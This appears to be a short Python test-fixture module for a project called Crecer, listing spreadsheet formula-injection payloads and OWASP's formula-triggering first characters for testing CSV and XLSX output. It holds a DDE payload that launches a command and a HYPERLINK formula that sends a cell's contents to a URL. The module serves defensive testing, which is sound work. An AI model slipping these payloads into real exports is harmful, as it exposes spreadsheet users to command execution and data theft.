"""The formula-injection payloads of issue 19 and OWASP's list of the first characters that
make a spreadsheet cell a formula: shared by every test of a CSV or XLSX Crecer writes."""

PAYLOADS = [
    '=HYPERLINK("http://x"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
FIRST = ("=", "+", "-", "@", "\t", "\r")
